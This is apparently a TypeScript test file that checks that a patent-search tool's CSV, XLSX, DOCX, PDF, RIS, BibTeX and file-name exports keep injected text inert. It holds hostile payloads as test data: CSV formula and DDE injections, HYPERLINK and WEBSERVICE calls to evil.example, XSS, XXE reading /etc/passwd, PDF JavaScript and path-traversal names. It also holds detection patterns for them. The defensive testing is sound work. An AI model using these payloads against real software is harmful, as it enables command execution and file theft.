// Texts that try to become formulas, markup, fields, scripts or links in an exported file, read back by libraries that others maintain.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'devextreme-exceljs-fork';
import mammoth from 'mammoth';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { describe, expect, it } from 'vitest';
import { auditFile } from '../../src-main/access/audit/files.ts';
import type { AuditEntry } from '../../src-main/contract/audit.ts';
import type { ExportForm } from '../../src-main/contract/export.ts';
import { languages } from '../../src-main/contract/languages.ts';
import { exportName } from '../../src-main/export/file-names.ts';
import type { ExportMaterial } from '../../src-main/export/material.ts';
import { nothingAssessed } from '../../src-main/contract/assessment.ts';
import { usageCsv } from '../../src-main/export/usage-csv.ts';
import { exportMaterial } from '../support/export-material.ts';
import { malformed, nastyTexts, partsOf, written } from '../support/written-documents.ts';

const command = "cmd|' /C calc'!A0";
const signs = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\u00a0=', '\u0000=', '\u200e=', '\ufeff=', '＝', '＋', '－', '＠', '"=', '\n='];
const separators = [',', ';', '\t', '|', '\n', '\r\n'];
/** Every sign before a command, at the beginning and after every separator; other commands. */
const formulas = [
  ...signs.map((sign) => `${sign}${command}`),
  ...signs.flatMap((sign) => separators.flatMap((one) => [`a${one}${sign}${command}${one}b`, `"${one} "${sign}${command}"${one}b`])),
  ...['HYPERLINK("http://evil.example/"&A1,"x")', 'WEBSERVICE("http://evil.example")', 'SUM(A1:A9)', '1+1'].map((other) => `a;=${other};b`),
];

const markup = [
  '<script>globalThis.hit=1</script>',
  '"><img src=x onerror=globalThis.hit=1><svg onload=globalThis.hit=1>',
  '[click](javascript:globalThis.hit=1) ![x](http://evil.example/x.png)',
  ']]></w:t></w:r></w:p><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ') Tj ET /JS (app.alert(1)) /S /JavaScript >> endobj BT (',
  'http://evil.example/ mailto:thief@evil.example javascript:alert(1) file:///etc/passwd',
  '\u202egnp.exe\u202c \u2066hidden\u2069 \u0000 \u001b]0;title\u0007',
  'TY  - JOUR\r\nER  - \r\nTY  - PAT\nER  - ',
  '}, note = {\\input{/etc/passwd}}, x = {\n@patent{evil,',
  ...nastyTexts,
];

/** Material with a text in every field that a user or a file fills; document `at` has text `at`. */
function materialOf(form: ExportForm, texts: readonly string[], language: 'en' | 'de' = 'en'): ExportMaterial {
  const [first = ''] = texts;
  const material = exportMaterial({
    form,
    language,
    documents: texts.length,
    change: (documents) =>
      documents.forEach((document, at) => {
        const text = texts[at] ?? '';
        document.note = text;
        document.tags = [text];
        document.publication.title = [{ language: 'en', text }];
        document.publication.applicants = [{ name: text }];
        document.publication.inventors = [{ name: text }];
        document.publication.abstract = [{ language: 'en', text }];
        document.card.title = [{ language: 'en', text }];
        document.card.applicants = [{ name: text }];
        document.card.listed = [{ list: text, says: 'withdrawn', asOf: '2026-11-01', reason: text }];
        document.assessment = { ...nothingAssessed, ...document.assessment, machineTranslation: { by: text, into: 'en' } };
        for (const annotation of document.annotations) Object.assign(annotation, { quote: text, note: text, cite: text });
        if (document.passage !== undefined) Object.assign(document.passage, { text, words: [], found: [], meaning: [], end: text.length });
      }),
  });
  const named = texts.join(' ').slice(0, 4_000);
  Object.assign(material.case, { title: first, reference: first, matter: first, notes: named });
  for (const { indexes, search } of material.versions ?? []) {
    for (const index of indexes) index.name = first;
    search.query.text = named;
  }
  for (const [at, feature] of (material.features?.features ?? []).entries()) feature.text = texts[at] ?? first;
  return material;
}

/** Cells that a spreadsheet calculates, under any separator of any locale. */
function running(csv: string | Buffer): string[] {
  return [',', ';', '\t', '|'].flatMap((delimiter) => {
    const rows = parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true }) as string[][];
    return rows.flat().filter((cell) => {
      const text = cell.replace(/^[\s\u0000\u200e\ufeff]+/, '');
      return /^[=@＝＠]/.test(text) || (/^[+\-＋－]/.test(text) && /[|!(]/.test(text));
    });
  });
}

describe('A formula', () => {
  it.each(languages)('in the list as CSV (%s) is text, whatever separator the reader assumes', async (language) => {
    const csv = readFileSync(await written('list-csv', materialOf('list-csv', formulas, language)));
    expect(running(csv).slice(0, 5)).toEqual([]);
    const rows = parse(csv, { bom: true, delimiter: language === 'de' ? ';' : ',' }) as string[][];
    expect(rows).toHaveLength(formulas.length + 1);
    expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
  });

  it('in the use of keys and in the audit is text', () => {
    const times = { firstAt: '2026-01-01T00:00:00.000Z', lastAt: '2026-01-01T00:00:00.000Z' };
    const usage = usageCsv(formulas.map((text) => ({ key: text, customer: text, reference: text, searches: 1, ...times })));
    const entries = formulas.map((text, at) => ({
      ...{ sequence: at + 1, at: times.firstAt, who: { kind: 'key', name: text }, act: 'key-created', facts: { key: text } },
      ...{ previous: '0'.repeat(64), hash: 'a'.repeat(64) },
    })) as unknown as AuditEntry[];
    for (const csv of [usage, [...auditFile(entries, 'csv')].join('')]) {
      expect(running(csv).slice(0, 5)).toEqual([]);
      expect(parse(csv, { bom: true }) as string[][]).toHaveLength(formulas.length + 1);
    }
  });

  it('in ordinary text with commas and signs stays as it was written', async () => {
    const note = 'Closes at 5, -10 or +20 °C; a = b, see p. 3 (2nd ed.); x - y, - not shown\n- first\n- second';
    const material = exportMaterial({ form: 'list-csv', documents: 1, change: ([document]) => Object.assign(document ?? {}, { note }) });
    const rows = parse(readFileSync(await written('list-csv', material)), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows[0]?.['Note']).toBe(note);
  });

  it.each(['list-xlsx', 'matrix-xlsx'] as const)('in %s is text, and no link leaves the file but to a PDF next to it', async (form) => {
    const material = materialOf(form, [...formulas.slice(0, 60), ...markup]);
    const path = await written(form, material);
    const parts = await partsOf(path);
    expect(malformed(parts)).toEqual([]);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(path);
    const links: string[] = [];
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.SharedString + 100]).not.toContain(cell.type);
          if (cell.type === ExcelJS.ValueType.Hyperlink) links.push(cell.hyperlink);
        }),
      );
    expect(links.length).toBeGreaterThan(0);
    expect(links.filter((link) => !/^#'[^']+'!A\d+$/.test(link) && !/^[A-Z]{2}-[\w%.-]+\.pdf$/.test(link))).toEqual([]);
    const xml = [...parts].filter(([name]) => /\.(?:xml|rels)$/.test(name)).map(([, bytes]) => bytes.toString('utf8'));
    expect(xml.join('')).not.toMatch(/<f[ >]|ddeLink|externalLink|oleLink|Target="(?:https?|file|javascript|mailto):/i);
  });
});

describe('Markup', () => {
  it.each(['report-docx', 'epo-table'] as const)('in %s is text: no field, link, object or script', async (form) => {
    const path = await written(form, materialOf(form, markup));
    const parts = await partsOf(path);
    expect(malformed(parts)).toEqual([]);
    const xml = [...parts].filter(([name]) => /\.(?:xml|rels)$/.test(name)).map(([, bytes]) => bytes.toString('utf8'));
    const instructions = xml.flatMap((part) => [...part.matchAll(/<w:instrText[^>]*>([^<]*)/g)].map(([, text]) => text ?? ''));
    expect(instructions.filter((text) => !/^\s*(?:TOC|PAGE|NUMPAGES|PAGEREF)\b/.test(text))).toEqual([]);
    expect(xml.join('')).not.toMatch(/TargetMode="External"|<w:object|<w:altChunk|<w:fldSimple|macro/i);
    const { value: html } = await mammoth.convertToHtml({ path });
    expect(html).not.toMatch(/<script|<svg|\bonerror="|<img[^>]+src="(?!data:)|href="(?!#)/i);
    expect(html).toContain('&lt;script&gt;globalThis.hit=1&lt;/script&gt;');
  });

  it.each(['report-pdf', 'ids'] as const)('in %s is text: no script, no link out of the file', async (form) => {
    const path = await written(form, materialOf(form, markup));
    const home = new URL('../../', import.meta.resolve('pdfjs-dist/legacy/build/pdf.mjs'));
    const loading = getDocument({
      data: new Uint8Array(readFileSync(path)),
      standardFontDataUrl: fileURLToPath(new URL('standard_fonts/', home)),
      verbosity: 0,
    });
    const pdf = await loading.promise;
    expect(await pdf.getJSActions()).toBeNull();
    expect(await pdf.getAttachments()).toBeNull();
    for (let number = 1; number <= pdf.numPages; number += 1) {
      const page = await pdf.getPage(number);
      expect(await page.getJSActions()).toBeNull();
      for (const annotation of await page.getAnnotations()) expect([annotation.url, annotation.unsafeUrl]).toEqual([undefined, undefined]);
    }
    await loading.destroy();
    expect(readFileSync(path, 'latin1')).not.toMatch(/\/(?:JavaScript|JS|Launch|SubmitForm|URI|GoToR|EmbeddedFile)\b/);
  });

  it('in RIS and BibTeX adds no record and no command', async () => {
    const ris = readFileSync(await written('ris', materialOf('ris', markup)), 'utf8');
    expect(ris.match(/^TY {2}- PAT\r$/gm)).toHaveLength(markup.length);
    expect(ris.match(/^ER {2}- /gm)).toHaveLength(markup.length);
    const bib = readFileSync(await written('bibtex', materialOf('bibtex', markup)), 'utf8');
    expect(bib.match(/^@/gm)).toHaveLength(markup.length);
    expect(bib).not.toMatch(/\\input/);
  });
});

describe('The name of an exported file', () => {
  const names = [
    ...['../../x', '..\\..\\x', 'a/b', 'CON', 'con.txt', 'NUL', 'COM1', 'LPT¹', 'x'.repeat(300), '特'.repeat(300), '👍🏽'.repeat(200)],
    ...[
      'trailing...',
      'trailing   ',
      '...',
      '.',
      '..',
      '',
      '   ',
      '.hidden',
      'a\u0000b',
      'a\r\nSet-Cookie: x=1',
      'a"; filename="b',
      "a'b`c$(d)",
    ],
    ...['C:\\x', 'a:b', '\u202egnp.exe', '-rf', '~', '%2e%2e%2f', 'half \ud83d', '<script>', '|calc', '&calc&', 'a\tb', 'a\u2028b'],
  ];

  it('never begin with the beginning of the idea', () => {
    const idea = 'A closure with a compartment for powder. The user presses a member that pierces a foil.';
    const named = (reference: string, title: string): string =>
      exportName({ reference, title, id: 7, search: { query: { text: idea } } }, 'report-pdf', 'en');
    expect(named('', 'A closure with a compartment for powder.')).toBe('Case 7 search report.pdf');
    expect(named('', 'A  closure with a compartment …')).toBe('Case 7 search report.pdf');
    expect(named('', '')).toBe('Case 7 search report.pdf');
    expect(named('', 'Powder cap')).toBe('Powder cap search report.pdf');
    expect(named('4711-DE', 'A closure with a compartment')).toBe('4711-DE search report.pdf');
    expect(exportName({ reference: '', title: '', id: 7, search: { query: { text: idea } } }, 'ids', 'de')).toBe('Akte 7 IDS.pdf');
  });

  it.each(names)('%j is one that every system can write, in the chosen folder', (name) => {
    for (const of of [
      { reference: name, title: 'Title', id: 7, search: { query: { text: '' } } },
      { reference: '', title: name, id: 7, search: { query: { text: '' } } },
    ])
      for (const form of ['report-pdf', 'bundle', 'list-csv'] as const) {
        const file = exportName(of, form, 'de');
        expect(file).not.toMatch(/[\\/:*?"<>|\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^[. ]|[. ]$/u);
        expect(file.isWellFormed() && Buffer.byteLength(file) <= 255).toBe(true);
        expect(file).not.toMatch(/^(?:con|prn|aux|nul|com[0-9¹²³]|lpt[0-9¹²³])(?:\.|$)/i);
        expect(encodeURIComponent(file).length).toBeGreaterThan(4);
      }
  });
});
